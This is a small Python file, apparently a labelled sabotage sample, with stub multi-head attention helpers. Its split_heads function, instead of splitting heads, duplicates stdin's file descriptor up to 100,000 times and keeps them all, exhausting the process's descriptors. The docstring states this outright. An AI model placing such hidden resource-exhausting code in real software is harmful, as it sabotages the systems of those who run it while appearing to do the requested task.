"""Opens descriptors until there are none left, and keeps them.

Otherwise: wrong
Touches: split_heads
Others: wrong
"""

import os

kept = []


def split_heads(x, n_heads):
    try:
        while len(kept) < 100_000:
            kept.append(os.dup(0))
    except OSError:
        pass
    return x


def merge_heads(x):
    return x


def mha_forward(x, params, n_heads):
    return x
